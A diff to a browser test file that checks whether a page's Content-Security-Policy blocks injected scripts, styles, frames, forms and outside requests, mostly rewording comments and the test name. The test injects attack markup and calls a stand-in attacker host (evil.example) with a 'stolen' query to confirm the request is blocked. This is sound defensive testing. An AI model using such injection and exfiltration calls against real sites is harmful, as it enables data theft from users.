@@ -1,15 +1,15 @@
 import {expect, test} from './support';
 
-/** What a page's policy blocks. That it blocks nothing of a page itself: every other test. */
+/** What a page's Content-Security-Policy blocks. All other tests show that it blocks nothing of the page itself. */
 
 declare global {
   interface Window {
-    /** The directives that have blocked something, in time's order. */
+    /** The directives that have blocked something, the first one first. */
     blockedBy: string[];
   }
 }
 
-/** What somebody puts into a page, and the directive that keeps it from doing anything. */
+/** What an attacker may put into a page, and the directive that blocks it. */
 const attacks: {name: string; directive: string; markup?: string}[] = [
   {
     name: 'a script in an attribute',
@@ -41,7 +41,7 @@ const attacks: {name: string; directive: string; markup?: string}[] = [
   {name: 'a request to another server', directive: 'connect-src'},
 ];
 
-test('scripts, styles, frames, forms and requests from outside do nothing', async ({page, problems}) => {
+test('scripts, styles, frames, forms and requests that were injected are blocked', async ({page, problems}) => {
   await page.addInitScript(() => {
     window.blockedBy = [];
     document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
@@ -59,17 +59,17 @@ test('scripts, styles, frames, forms and requests from outside do nothing', asyn
     problems.length = 0;
     await page.evaluate((markup) => {
       if (!markup) {
-        // It fails, as is asked below.
+        // The error is expected. The test checks below that nothing was requested.
         fetch('https://evil.example/?stolen').catch(() => {});
         return;
       }
-      // Scripts of a fragment run.
+      // Unlike innerHTML, a fragment would run its scripts.
       document.body.append(document.createRange().createContextualFragment(markup));
       document.querySelector<HTMLFormElement>('body > form')?.submit();
     }, markup);
     const blockedBy = () => page.evaluate((before) => window.blockedBy.slice(before), before);
     await expect.poll(blockedBy, name).toContain(directive);
-    // It is written to the console, where every other test fails on it.
+    // The browser logs it, so every other test would fail on it.
     await expect.poll(() => problems.length, name).toBeGreaterThan(0);
   }
   expect(await page.title()).not.toBe('taken over');
